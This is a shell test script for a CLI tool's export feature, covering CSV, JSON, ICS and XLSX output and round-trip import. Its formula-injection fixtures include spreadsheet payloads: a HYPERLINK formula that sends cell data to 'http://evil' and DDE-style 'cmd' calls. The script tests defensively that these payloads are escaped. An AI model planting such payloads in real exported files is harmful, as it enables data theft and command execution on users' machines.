# tests/cli/export.sh — export as users meet it: CSV opened again by rapport's own import (a
# round trip) with quoting, a byte-order mark, custom fields and formulas neutralised; JSON read
# by jq; ICS read by a real parser (python3-icalendar) with stable UIDs and folded lines; bad
# input refused.
. "$(dirname "$0")/../lib.sh"
ok_run init ws
WS=$T/ws
cd ws || exit 1
r() { "$RAPPORT_BIN" "$@"; }
r field add customer tier choice gold,silver >/dev/null
r add customer name=Plain tier=gold >/dev/null
r add customer 'name=Comma, Inc.' 'note=He said "yes"' >/dev/null
r add customer "name=Lines" "note=$(printf 'one\ntwo')" >/dev/null
r add customer name=上海明远 industry=制造 >/dev/null
P=$(r add project customer=Plain name=Portal due=2026-12-20)
r add milestone project=Portal 'name=Go-live; phase 1, final' due=2026-12-15 >/dev/null
r add task project=Portal name=Undated >/dev/null
r add task project=Portal name=Dated due=2026-12-01 >/dev/null

ok_run export customer -o c.csv
head -c 3 c.csv | od -An -tx1 | grep -q 'ef bb bf' && ok || bad "no UTF-8 byte-order mark"
head -1 c.csv | grep -q 'id,name,industry' && ok || bad "the header is not the field names"
head -1 c.csv | grep -q 'tier' && ok || bad "custom field missing from the header"
grep -q '"Comma, Inc."' c.csv && ok || bad "a comma is not quoted"
grep -q '"He said ""yes"""' c.csv && ok || bad "quotes are not doubled"

# The round trip: a new workspace imports what this one exported.
ok_run init ../ws2
rp -C ../ws2 field add customer tier choice gold,silver
rp -C ../ws2 import customer "$WS/c.csv" --map id=
status_is 0 "import of an export"
a=$(r list customer --json | jq -c '[.[] | {name, industry, tier, note}] | sort_by(.name)')
rp -C ../ws2 list customer --json
b=$(printf '%s' "$OUT" | jq -c '[.[] | {name, industry, tier, note}] | sort_by(.name)')
eq "$b" "$a" "export then import gives the same customers"

# Formula injection: text a spreadsheet would evaluate (a cell starting with =, +, -, @, tab or
# carriage return) is written with a leading ', numbers stay numbers, and import takes the '
# away again, so the values come back byte for byte.
ok_run init ../wf
cd ../wf || exit 1
r field add customer credit number >/dev/null
r add customer 'name==HYPERLINK("http://evil/?"&A1,"x")' "industry==cmd|' /C calc'!A0" \
	'region=@SUM(1+1)*cmd|x' 'address=+1+1' 'tags=-minus,=eq' credit=-12.5 >/dev/null
r add customer "name=$(printf '\tTabbed')" "note=$(printf '\rCR first')" credit=+3 >/dev/null
r add customer "name='=typed with an apostrophe" "industry=''+two" "region='plain" \
	"address=it's = fine" >/dev/null
ok_run export customer -o f.csv
cr=$(printf '\r')
tab=$(printf '\t')
grep -q "^[0-9a-f]*,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",'=cmd|' /C calc'!A0,'@SUM(1+1)\*cmd|x," f.csv &&
	ok || bad "formulas are not neutralised with a leading ': $(grep HYPERLINK f.csv)"
grep -q ",'+1+1,\"'-minus,=eq\",.*,-12\.5$cr\$" f.csv && ok || bad "+1+1, a set or a number is written wrong: $(grep HYPERLINK f.csv)"
grep -q "^[0-9a-f]*,\"'${tab}Tabbed\"," f.csv && ok || bad "a cell starting with a tab has no leading '"
grep -q ",\"'${cr}CR first\",3$cr\$" f.csv && ok || bad "a cell starting with a CR has no leading '"
grep -q ",''=typed with an apostrophe,'''+two,'plain,,lead,,,,it's = fine," f.csv &&
	ok || bad "apostrophes already in front are not kept apart: $(grep plain f.csv)"
ok_run init ../wf2
rp -C ../wf2 field add customer credit number
rp -C ../wf2 import customer "$T/wf/f.csv" --map id=
status_is 0 "import of neutralised formulas"
a=$(r list customer --json | jq -c '[.[] | del(.id, .created, .updated, .author)] | sort_by(.name)')
rp -C ../wf2 list customer --json
b=$(printf '%s' "$OUT" | jq -c '[.[] | del(.id, .created, .updated, .author)] | sort_by(.name)')
eq "$b" "$a" "formulas, apostrophes and numbers round-trip through export and import"
case "$b" in *'"=HYPERLINK(\"http://evil/?\"&A1,\"x\")"'*'"credit":-12.5'*) ok ;; *) bad "the values did not come back: $b" ;; esac
cd "$WS" || exit 1

ok_run export invoice --format json
eq "$(printf '%s' "$OUT" | jq length)" 0 "an empty JSON array"
ok_run export task --format json 'due<2026-12-31'
eq "$(printf '%s' "$OUT" | jq -r '.[].name')" Dated "filters as in list"

ok_run export milestone --format ics -o m.ics
ok_run export task --format ics -o t.ics
ok_run export task --format ics -o t2.ics
/usr/bin/python3 - m.ics t.ics t2.ics <<'PY' >ics.out 2>&1
import sys, icalendar
def events(p):
    cal = icalendar.Calendar.from_ical(open(p, 'rb').read())
    return [e for e in cal.walk('VEVENT')]
m, t, t2 = (events(p) for p in sys.argv[1:4])
assert len(m) == 1, len(m)
assert str(m[0]['SUMMARY']) == 'Milestone: Go-live; phase 1, final', m[0]['SUMMARY']
assert m[0].decoded('DTSTART').isoformat() == '2026-12-15', m[0].decoded('DTSTART')
assert len(t) == 1, 'the undated task is no event'
assert [str(e['UID']) for e in t] == [str(e['UID']) for e in t2], 'UIDs change between exports'
for p in sys.argv[1:4]:
    raw = open(p, 'rb').read()
    assert all(len(l) <= 75 for l in raw.split(b'\r\n')), 'a line over 75 octets'
    assert b'\n' not in raw.replace(b'\r\n', b''), 'a bare LF'
print('ics ok')
PY
grep -q '^ics ok$' ics.out && ok || bad "ICS rejected by python3-icalendar: $(cat ics.out)"

# XLSX, read back by Python's zipfile: typed cells, dates as dates, a frozen header row.
r add invoice customer=Plain number=INV-1 amount=1234.5 issued=2026-11-01 due=2026-12-01 >/dev/null
ok_run export invoice --format xlsx -o i.xlsx
/usr/bin/python3 - i.xlsx <<'PY' >xlsx.out 2>&1
import sys, zipfile, re
z = zipfile.ZipFile(sys.argv[1])
sheet = z.read('xl/worksheets/sheet1.xml').decode()
strings = re.findall(r'<t[^>]*>([^<]*)</t>', z.read('xl/sharedStrings.xml').decode())
assert 'amount' in strings and 'INV-1' in strings, strings[:10]
assert '<pane ySplit="1"' in sheet, 'no frozen header'
assert '<v>1234.5</v>' in sheet, 'the amount is not a number cell'
# Dates are serial numbers with a date style: 2026-11-01 is 46327.
assert '<v>46327</v>' in sheet, 'the issue date is not a date cell'
assert '<cols>' in sheet, 'no column widths'
print('xlsx ok')
PY
grep -q '^xlsx ok$' xlsx.out && ok || bad "XLSX read back wrong: $(cat xlsx.out)"
rejects "give -o FILE.xlsx" export invoice --format xlsx
rejects "is not csv, json, xlsx or ics" export customer --format xml
rejects "not customers" export customer --format ics
rejects "no field" export customer colour=red
rejects "is not a record kind" export widget
rp export customer -o "$T/no/such/dir/c.csv"
status_is 1 "export to a missing directory"
[ ! -e "$T/no/such/dir" ] && ok || bad "a partial file was left"
finish
